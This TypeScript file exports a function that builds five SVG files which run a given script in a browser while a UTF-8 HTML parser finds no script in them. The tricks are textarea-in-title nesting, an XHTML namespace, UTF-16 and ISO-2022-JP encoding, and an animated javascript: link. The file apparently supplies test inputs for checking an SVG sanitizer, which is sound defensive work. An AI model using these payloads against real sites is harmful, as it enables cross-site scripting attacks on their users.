const SVG = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"';

/**
 * Returns SVG files that run `script` when a browser opens them, although a UTF-8 HTML parser finds no script
 * in them. The key of each file describes how it hides the script. `script` must not contain `<`, `&`, or
 * double quotes.
 */
export function toAttacks(script: string): Record<string, Uint8Array> {
  const run = `<script>${script}</script>`;
  const link = `<animate attributeName="href" values="javascript:${script}"/>`;
  const utf8 = (text: string) => new TextEncoder().encode(text);
  return {
    'a script in a text field in a title': utf8(
      `<svg ${SVG}><title><textarea>${run}</textarea></title></svg>`,
    ),
    'a root in the XHTML namespace': utf8(
      `<svg ${SVG.replace('2000/svg', '1999/xhtml')}><title><textarea>${run}</textarea></title></svg>`,
    ),
    'a UTF-16 file': Buffer.from(`\ufeff<svg ${SVG}>${run}</svg>`, 'utf16le'),
    'an escape sequence of ISO-2022-JP in a tag name': utf8(
      `<?xml version="1.0" encoding="iso-2022-jp"?>\n<svg ${SVG}>${run.replaceAll('script>', '\u001b(Bscript>')}</svg>`,
    ),
    'an address that an animation gives to a link in a menu in a title': utf8(
      `<svg ${SVG}><title><select><a>${link}<text y="9">A link</text></a></select></title></svg>`,
    ),
  };
}
